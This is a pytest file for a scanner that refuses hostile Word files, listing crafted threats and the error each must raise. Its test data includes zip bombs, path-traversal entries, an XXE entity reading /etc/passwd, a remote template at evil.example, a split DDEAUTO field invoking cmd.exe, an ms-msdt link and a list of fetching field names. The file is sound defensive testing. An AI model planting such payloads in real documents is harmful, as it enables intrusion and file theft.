"""Files from others: each threat is refused, and the message says what it is and where."""

import warnings
import zipfile
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path

import pytest
from hypothesis import given, strategies as st

from generator.docx.package import pack
from generator.docx.xml import DOCUMENT
from generator.errors import InputError
from generator.scanning.foreign import read_foreign
from generator.scanning.scan import scan
from tests.hostile import files
from tests.samples import FOLDERS

CORE = "docProps/core.xml"
PACKAGE = "_rels/.rels"
LAUGH = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>'
FILE_READER = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
MANY_TAGS = b"<a>" + b"<b/>" * 2_100_000 + b"</a>"
VML = 'xmlns:v="urn:schemas-microsoft-com:vml"'
OFFICE = 'xmlns:o="urn:schemas-microsoft-com:office:office"'


def twice() -> bytes:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # zipfile warns of what is wanted here
        return files.entries({DOCUMENT: b"<other/>"})


THREATS: dict[str, tuple[Callable[[], bytes], str, str]] = {
    # what: (the file, the place, what the message says)
    "bomb": (
        lambda: files.entries({"word/media/image1.png": bytes(20_000_000)}),
        "word/media/image1.png",
        "unpacks to more than 200 times its size",
    ),
    "bomb that says it is small": (
        lambda: files.lying(1000),
        "word/media/image1.png",
        "unpacks to more than 200 times its size",
    ),
    "size that is not true": (
        lambda: files.entries({"word/media/image1.png": b"short"}).replace(
            (5).to_bytes(4, "little") + (21).to_bytes(2, "little"),
            (3).to_bytes(4, "little") + (21).to_bytes(2, "little"),
        ),
        "word/media/image1.png",
        "its size or its checksum differs",
    ),
    "too much in all": (
        lambda: files.entries(
            {f"word/media/{n}.png": bytes(40_000_000) for n in range(2)}, method=zipfile.ZIP_STORED
        ),
        "",
        "is larger than 40 MB",
    ),
    "too many entries": (
        lambda: files.entries({f"word/media/{n}.png": b"" for n in range(600)}),
        "",
        "entries: at most 500 are allowed",
    ),
    "an entry twice": (twice, DOCUMENT, "stands in the archive 2 times"),
    "an entry twice in other letters": (
        lambda: files.entries({"word/Document.xml": b"<x/>"}),
        DOCUMENT,
        "stands in the archive 2 times",
    ),
    "a way up": (
        lambda: files.entries({"word/../../evil.xml": b"<x/>"}),
        "word/../../evil.xml",
        "leads out of the archive",
    ),
    "a way from the root": (
        lambda: files.entries({"/etc/evil.xml": b"<x/>"}),
        "/etc/evil.xml",
        "leads out of the archive",
    ),
    "a drive": (
        lambda: files.entries({"C:evil.xml": b"<x/>"}),
        "C:evil.xml",
        "leads out of the archive",
    ),
    "another packing": (
        lambda: files.entries({"word/media/a.png": b"x"}, method=zipfile.ZIP_LZMA),
        "word/media/a.png",
        "packed in a way that Word files never are",
    ),
    "an encrypted entry": (files.encrypted, "word/media/image1.png", "is encrypted"),
    "no document": (
        lambda: pack({n: c for n, c in files.PARTS.items() if n != DOCUMENT}),
        "",
        "is not a Word document: nothing in it is named as its text",
    ),
    "a text that is not there": (
        lambda: files.changed(PACKAGE, 'Target="word/document.xml"', 'Target="word/other.xml"'),
        "",
        "nothing in it is named as its text",
    ),
    "a cut archive": (lambda: files.HARMLESS[:-30], "", "its archive is damaged"),
    "entities": (lambda: files.with_part(CORE, LAUGH), CORE, "declares a document type or entities"),
    "a file read by an entity": (
        lambda: files.with_part("customXml/item9.xml", FILE_READER),
        "customXml/item9.xml",
        "declares a document type or entities",
    ),
    "entities in wide letters": (
        lambda: files.with_part(CORE, LAUGH.encode("utf-16")),
        CORE,
        "declares a document type or entities",
    ),
    "entities in an encoding that hides them": (
        lambda: files.with_part(CORE, f'<?xml version="1.0" encoding="utf-7"?>{LAUGH}'.encode("utf-7")),
        CORE,
        "an encoding that Word files never use",
    ),
    "markup that is nested without end": (
        lambda: files.with_part(CORE, "<a>" * 5000 + "</a>" * 5000),
        CORE,
        "is nested too deeply",
    ),
    "markup without end": (
        lambda: files.entries({CORE + ".xml": MANY_TAGS}, method=zipfile.ZIP_STORED),
        CORE + ".xml",
        "holds more markup than a contract ever has",
    ),
    "broken markup": (lambda: files.with_part(CORE, "<a><b></a>"), CORE, "is not well-formed"),
    "a template elsewhere": (
        lambda: files.with_relation("attachedTemplate", "https://evil.example/a.dotm"),
        files.RELATIONS,
        "is tied to a template elsewhere",
    ),
    "a picture elsewhere": (
        lambda: files.with_relation("image", "http://evil.example/pixel.png"),
        files.RELATIONS,
        "shows a picture that lies elsewhere",
    ),
    "an object elsewhere": (
        lambda: files.with_relation("oleObject", "file:///c:/secret.xlsx"),
        files.RELATIONS,
        "links an object that lies elsewhere",
    ),
    "a frame elsewhere": (
        lambda: files.with_relation("frame", "http://evil.example/"),
        files.RELATIONS,
        "reaches outside of the document (frame)",
    ),
    "a link that runs a program": (
        lambda: files.with_relation("hyperlink", "ms-msdt:/id"),
        files.RELATIONS,
        "has a link that is neither http, https nor mailto",
    ),
    "a picture elsewhere in an old drawing": (
        lambda: files.with_body(
            f'<w:p><w:r><w:pict {VML}><v:imagedata src="//evil.example/a.png"/></w:pict></w:r></w:p>'
        ),
        DOCUMENT,
        "shows a picture that lies elsewhere",
    ),
    "macros": (lambda: files.with_part("word/vbaProject.bin", b"x"), "word/vbaProject.bin", "holds macros"),
    "macros under another name": (
        lambda: files.with_relation(
            "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "notes.bin"
        ),
        files.RELATIONS,
        "holds macros",
    ),
    "controls": (
        lambda: files.with_part("word/activeX/activeX1.xml", "<x/>"),
        "word/activeX/activeX1.xml",
        "holds ActiveX controls",
    ),
    "a control in the text": (
        lambda: files.with_body("<w:p><w:r><w:object><w:control/></w:object></w:r></w:p>"),
        DOCUMENT,
        "holds ActiveX controls",
    ),
    "an embedded file": (
        lambda: files.with_part("word/embeddings/oleObject1.bin", b"x"),
        "word/embeddings/oleObject1.bin",
        "holds an embedded file or object",
    ),
    "an object in the text": (
        lambda: files.with_body(f"<w:p><w:r><w:object><o:OLEObject {OFFICE}/></w:object></w:r></w:p>"),
        DOCUMENT,
        "holds an embedded file or object",
    ),
    "a foreign passage": (
        lambda: files.with_body("<w:altChunk/>"),
        DOCUMENT,
        "takes in a passage in another format",
    ),
    "a web page inside": (
        lambda: files.with_part("word/afchunk.mht", b"x"),
        "word/afchunk.mht",
        "takes in a passage in another format",
    ),
    "a subdocument": (lambda: files.with_body("<w:subDoc/>"), DOCUMENT, "takes in another document"),
    "a program": (lambda: files.with_part("word/media/run.exe", b"MZ"), "word/media/run.exe", "is a program"),
    "a picture with a script": (
        lambda: files.with_part(
            "word/media/a.svg", '<svg xmlns="http://www.w3.org/2000/svg"><script>x</script></svg>'
        ),
        "word/media/a.svg",
        "holds a script",
    ),
    "a field split over runs": (
        lambda: files.split_field(" DD", "EAU", "TO c:\\\\cmd.exe"),
        DOCUMENT,
        "fetches or runs something (DDEAUTO)",
    ),
    "a field in small letters": (
        lambda: files.field(' includepicture "http://evil.example" \\d'),
        DOCUMENT,
        "fetches or runs something (INCLUDEPICTURE)",
    ),
    "a field in one element": (
        lambda: files.with_body('<w:p><w:fldSimple w:instr=" INCLUDETEXT x.docx "/></w:p>'),
        DOCUMENT,
        "fetches or runs something (INCLUDETEXT)",
    ),
    "a field whose name is made up": (
        lambda: files.made_up_field(" QUOTE 68 68 69 "),
        DOCUMENT,
        "has a field whose name another field makes up",
    ),
    "a field without an end": (
        lambda: files.with_body(
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>LINK x</w:instrText></w:r></w:p>'
        ),
        DOCUMENT,
        "fetches or runs something (LINK)",
    ),
    "a link field that runs a program": (
        lambda: files.field(' HYPERLINK "file:///c:/run.exe"'),
        DOCUMENT,
        "has a link that is neither http, https nor mailto",
    ),
    "a password": (
        lambda: files.ole("EncryptedPackage"),
        "",
        "is protected with a password: open it in Word, take the password away",
    ),
    "an old document": (lambda: files.ole("WordDocument"), "", "is an old Word file (.doc): open it in Word"),
    "rich text": (lambda: b"{\\rtf1 hello}", "", "is a Rich Text file"),
    "a PDF": (lambda: b"%PDF-1.7 ...", "", "is a PDF"),
    "an open document": (
        lambda: b"PK\x03\x04....mimetypeapplication/vnd.oasis.opendocument.text",
        "",
        "is an OpenDocument file",
    ),
    "nothing": (lambda: b"", "", "is not a Word document: it is empty"),
    "noise": (lambda: bytes(range(256)), "", "is not a Word document"),
}  # fmt: skip
FETCHING = (
    "INCLUDE",
    "INCLUDETEXT",
    "INCLUDEPICTURE",
    "IMPORT",
    "LINK",
    "EMBED",
    "DDE",
    "DDEAUTO",
    "DATABASE",
    "RD",
)


def refused(data: bytes) -> InputError:
    with pytest.raises(InputError) as caught:
        scan(data, source="theirs.docx")
    return caught.value


@pytest.mark.parametrize("threat", THREATS)
def test_a_threat_is_refused_with_its_place_and_reason(threat: str) -> None:
    make, place, message = THREATS[threat]
    problems = refused(make()).problems
    assert [p.source for p in problems] == ["theirs.docx"] * len(problems)
    assert any(p.place == place and message in p.message for p in problems), problems


@pytest.mark.parametrize("word", FETCHING)
def test_every_field_that_fetches_is_refused(word: str) -> None:
    assert f"({word})" in str(refused(files.field(f' {word} "x" ')))


def test_every_reason_is_told_at_once() -> None:
    parts = files.PARTS | {"word/vbaProject.bin": b"x", CORE: LAUGH.encode()}
    places = {problem.place for problem in refused(pack(parts)).problems}
    assert places == {"word/vbaProject.bin", CORE}


@pytest.mark.parametrize(
    "make",
    [
        lambda: files.with_relation("hyperlink", "https://example.org/terms"),
        lambda: files.with_relation("hyperlink", "mailto:maya@example.org"),
        lambda: files.field(' HYPERLINK "https://example.org" '),
        lambda: files.field(" PAGE "),
        lambda: files.field(" REF _Ref1 \\w \\h "),
        lambda: files.field(' IF 1 = 1 "LINK" "DDE" '),
        lambda: files.with_part("customXml/item9.xml", '<a src="x"><control/><script/></a>'),
        lambda: files.with_part(CORE, '<?xml version="1.0" encoding="UTF-16"?><a/>'.encode("utf-16")),
        lambda: files.entries({"word/": b""}),
    ],
)
def test_what_word_files_usually_hold_passes(make: Callable[[], bytes]) -> None:
    scan(make(), source="theirs.docx")


@pytest.mark.parametrize("folder", FOLDERS, ids=lambda folder: folder.name)
def test_every_sample_passes(folder: Path) -> None:
    scan((folder / "contract.docx").read_bytes(), source="sample")


def test_a_file_that_is_not_there_is_named(tmp_path: Path) -> None:
    with pytest.raises(InputError, match=r"none\.docx: cannot be read: No such file"):
        read_foreign(tmp_path / "none.docx")


FLIP = st.tuples(st.integers(0, len(files.HARMLESS) - 1), st.integers(0, 255))


@given(changes=st.lists(FLIP, min_size=1, max_size=8), cut=st.integers(0, len(files.HARMLESS)))
def test_damage_is_a_message_and_never_a_crash(changes: list[tuple[int, int]], cut: int) -> None:
    data = bytearray(files.HARMLESS)
    for at, value in changes:
        data[at] = value
    for damaged in (bytes(data), bytes(data[:cut])):
        with suppress(InputError):
            scan(damaged, source="theirs.docx")
